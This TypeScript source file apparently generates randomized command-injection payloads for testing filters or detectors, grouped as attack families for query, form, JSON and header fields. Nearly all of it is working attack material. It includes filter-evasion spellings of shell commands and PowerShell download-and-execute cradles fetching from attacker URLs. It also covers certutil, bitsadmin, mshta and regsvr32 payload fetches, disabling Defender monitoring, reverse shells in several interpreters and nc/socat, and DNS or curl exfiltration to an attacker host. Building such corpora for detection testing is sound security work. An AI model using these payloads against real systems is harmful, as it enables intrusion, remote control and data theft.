/**
 * Command execution beyond `; cmd`: substitution and arithmetic expansion, variable-expansion tricks
 * that spell a command without writing it, here-strings, PowerShell, Windows cmd with its escapes,
 * and interpreter one-liners.
 */
import type { AttackFamily } from './family.js';
import { attackerHost, attackerIp, attackerUrl, base64, base64Utf16, int, maybe, pick, unixCommand, windowsCommand, type Random } from './grammar.js';

/** `cat` spelled so no filter sees `cat`: quotes, backslashes, `$@`, empty expansions, globbing. */
function obscureWord(word: string, random: Random): string {
  if (word.length < 2) return word;
  const cut = int(random, 1, word.length - 1);
  const a = word.slice(0, cut);
  const b = word.slice(cut);
  return pick([`${a}''${b}`, `${a}""${b}`, `${a}\\${b}`, `${a}$@${b}`, `${a}\${x}${b}`, `${a}$()${b}`, `${a}\`\`${b}`, word, word], random);
}

function obscurePath(path: string, random: Random): string {
  return pick(
    [
      path,
      path.replace(/\//g, '${HOME:0:1}'),
      path.replace(/\//g, '${PATH:0:1}'),
      path.replace(/[aeiou]/, '?'),
      path.replace(/[a-z]{3,}/, (w) => `${w[0]}${'?'.repeat(w.length - 1)}`),
      path.replace(/(\w)$/, '*'),
      path.replace(/\//g, '$(echo /)'),
    ],
    random,
  );
}

function spaced(cmd: string, random: Random): string {
  return cmd.replace(/ /g, pick([' ', ' ', '${IFS}', '$IFS$9', '\t', '${IFS%??}', '<'], random));
}

function obscuredCommand(random: Random): string {
  const cmd = unixCommand(random);
  const [head, ...rest] = cmd.split(' ');
  const args = rest.map((a) => (a.startsWith('/') ? obscurePath(a, random) : a));
  if (random() < 0.15 && args.length > 0) return `{${obscureWord(head, random)},${args.join(',')}}`;
  return spaced([obscureWord(head, random), ...args].join(' '), random);
}

function substitution(random: Random): string {
  const inner = obscuredCommand(random);
  const lead = pick(['', '', 'x', '1', '127.0.0.1', 'test', 'a.png', `${int(random, 1, 99999)}`], random);
  switch (int(random, 0, 9)) {
    case 0:
      return `${lead}$(${inner})`;
    case 1:
      return `${lead}\`${inner}\``;
    case 2:
      return `${lead}$((${int(random, 2, 99)}*${int(random, 2, 99)}))`;
    case 3:
      return `${lead}$(($(${inner})))`;
    case 4:
      return `${pick(['bash', 'sh', 'zsh'], random)}<<<${pick([`$(base64${pick([' -d', '${IFS}-d', ' --decode'], random)}<<<${base64(unixCommand(random))})`, `'${unixCommand(random)}'`, `"${inner}"`], random)}`;
    case 5:
      return `${lead}${pick([';', '|', '&&', '||', '\n', '&'], random)}${pick(['eval', 'exec', 'sh -c', 'bash -c'], random)} ${pick(["'", '"'], random)}${inner}${pick(["'", '"'], random)}`;
    case 6:
      return `${lead}$(printf '${[...unixCommand(random)].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}')`;
    case 7: {
      // ANSI-C quoting spells the command in octal escapes, whole or only some characters.
      const octal = (c: string): string => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`;
      const [word, ...args] = random() < 0.3 ? [pick(['sh', 'bash'], random)] : unixCommand(random).split(' ');
      const some = [...word].map((c) => (random() < 0.6 ? octal(c) : c)).join('');
      const rest = args.length > 0 ? `${pick([' ', '${IFS}'], random)}${args.join(' ')}` : '';
      return `${lead}$'${random() < 0.5 || !some.includes('\\') ? [...word].map(octal).join('') : some}'${rest}`;
    }
    case 8:
      return `${lead}${pick([';', '|', '\n'], random)}x=${pick(['who', 'i', 'un'], random)};y=${pick(['ami', 'd', 'ame'], random)};$x$y`;
    default:
      return `${lead}$(${pick(['rev', 'tac'], random)}<<<'${[...unixCommand(random)].reverse().join('')}'|sh)`;
  }
}

function powershell(random: Random): string {
  const url = attackerUrl(random);
  const script = pick(
    [
      `IEX(New-Object Net.WebClient).DownloadString('${url}')`,
      `Invoke-WebRequest -Uri ${url} -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe`,
      `iwr ${url} | iex`,
      `Get-Content C:\\Windows\\win.ini`,
      `[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64('whoami')}'))|iex`,
      `$c=New-Object System.Net.Sockets.TCPClient('${attackerIp(random)}',${int(random, 1024, 65535)});$s=$c.GetStream()`,
      `Start-Process cmd.exe -ArgumentList '/c ${windowsCommand(random)}'`,
      `Set-MpPreference -DisableRealtimeMonitoring $true`,
      `(New-Object System.Net.WebClient).DownloadFile('${url}','C:\\Users\\Public\\x.exe')`,
    ],
    random,
  );
  const obfuscated = random() < 0.3 ? script.replace(/\b(IEX|Invoke-WebRequest|Start-Process|New-Object)\b/g, (w) => [...w].map((c, i) => (i > 0 && random() < 0.3 ? `\`${c}` : c)).join('')) : script;
  const launcher = pick(['powershell', 'powershell.exe', 'pwsh', 'PowerShell', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'], random);
  const flags = pick(['', '-nop ', '-NoP -NonI -W Hidden ', '-ep bypass ', '-ExecutionPolicy Bypass -NoProfile ', '-w hidden -c '], random);
  const sep = pick(['', '', '|', '&', ';', '&&', '\n'], random);
  switch (int(random, 0, 3)) {
    case 0:
      return `${sep}${launcher} ${flags}-${pick(['enc', 'e', 'EncodedCommand', 'ec'], random)} ${base64Utf16(script)}`;
    case 1:
      return `${sep}${launcher} ${flags}${pick(['-c ', '-Command ', ''], random)}"${obfuscated}"`;
    case 2:
      return `${sep}${obfuscated}`;
    default:
      return `${sep}${launcher} ${flags}-c "&(${pick(['"{0}{1}" -f \'IE\',\'X\'', "'I'+'EX'", '$env:ComSpec[4,15,25]-join\'\''], random)}) ${pick([`(iwr ${url})`, `'${windowsCommand(random)}'`], random)}"`;
  }
}

function cmdWindows(random: Random): string {
  const cmd = windowsCommand(random);
  const caret = (s: string) => [...s].map((c) => (/[a-z]/i.test(c) && random() < 0.4 ? `^${c}` : c)).join('');
  const lead = pick(['', '', 'x', '127.0.0.1', 'test.txt', `${int(random, 1, 9999)}`], random);
  const sep = pick(['&', '&&', '|', '||', '\r\n', '%0a', '^&'], random);
  switch (int(random, 0, 7)) {
    case 0:
      return `${lead}${sep}${caret(cmd)}`;
    case 1:
      return `${lead}${sep}cmd${pick(['', '.exe'], random)} /${pick(['c', 'C', 'k'], random)} ${pick(['', '"'], random)}${caret(cmd)}`;
    case 2:
      return `${lead}${sep}%COMSPEC% /c ${cmd}`;
    case 3: {
      // Delayed expansion assembles the command from variables, so the command name is never written.
      const [head, ...args] = cmd.split(' ');
      const cut = int(random, 1, Math.max(1, head.length - 1));
      const [a, b] = [pick(['a', 'x', 'c', 'p', 'q', 'v1', 'i'], random), pick(['b', 'y', 'd', 'k', 'z', 'v2', 'j'], random)];
      return `${lead}${sep}cmd${pick(['', '.exe'], random)} /v:on /c "set ${a}=${head.slice(0, cut)}&&set ${b}=${head.slice(cut)}&&${pick(['call ', ''], random)}!${a}!!${b}!${args.length ? ` ${args.join(' ')}` : ''}"`;
    }
    case 4:
      return `${lead}${sep}%${pick(['ProgramData', 'CommonProgramFiles', 'SystemRoot'], random)}:~${int(random, 0, 2)},1%${pick(['md', 'cmd'], random)} /c ${cmd}`;
    case 5:
      return `${lead}${sep}for /f "tokens=*" %i in ('${cmd}') do ${pick([`nslookup %i.${attackerHost(random)}`, `curl ${attackerUrl(random)}?d=%i`], random)}`;
    case 6:
      return `${lead}${sep}${pick([`certutil -urlcache -split -f ${attackerUrl(random)} %TEMP%\\x.exe`, `bitsadmin /transfer j /download ${attackerUrl(random)} %TEMP%\\x.exe`, `mshta ${attackerUrl(random)}x.hta`, `rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)`, `regsvr32 /s /n /u /i:${attackerUrl(random)}x.sct scrobj.dll`], random)}`;
    default:
      return `${lead}${sep}"${caret(cmd.split(' ')[0])}"`;
  }
}

function scriptOneLiner(random: Random): string {
  const cmd = unixCommand(random);
  const host = attackerIp(random);
  const port = int(random, 1024, 65535);
  const sep = pick(['', ';', '|', '&&', '$(', '`', '\n'], random);
  const close = sep === '$(' ? ')' : sep === '`' ? '`' : '';
  const line = pick(
    [
      `perl -e 'system("${cmd}")'`,
      `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"${host}:${port}");STDIN->fdopen($c,r);system$_ while<>'`,
      `python -c 'import os;os.system("${cmd}")'`,
      `python3 -c "import socket,subprocess,os;s=socket.socket();s.connect(('${host}',${port}));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"`,
      `python -c "__import__('os').popen('${cmd}').read()"`,
      `ruby -e 'exec "${cmd}"'`,
      `ruby -rsocket -e 'c=TCPSocket.new("${host}",${port});$stdin.reopen(c);exec "/bin/sh"'`,
      `php -r 'system("${cmd}");'`,
      `php -r '$s=fsockopen("${host}",${port});exec("/bin/sh -i <&3 >&3 2>&3");'`,
      `node -e 'require("child_process").exec("${cmd}")'`,
      `lua -e 'os.execute("${cmd}")'`,
      `awk 'BEGIN{system("${cmd}")}'`,
      `busybox nc ${host} ${port} -e sh`,
      `socat tcp:${host}:${port} exec:sh`,
    ],
    random,
  );
  return `${maybe(random, 0.5, pick(['x', '1', 'test'], random))}${sep}${line}${close}`;
}

export const SHELL_FAMILIES: readonly AttackFamily[] = [
  { name: 'shell-substitution', category: 'cmdexe', places: ['query', 'form', 'json', 'header'], make: substitution },
  { name: 'powershell', category: 'cmdexe', places: ['query', 'form', 'json'], make: powershell },
  { name: 'cmd-windows', category: 'cmdexe', places: ['query', 'form', 'json'], make: cmdWindows },
  { name: 'script-oneliner', category: 'cmdexe', places: ['query', 'form', 'json'], make: scriptOneLiner },
];
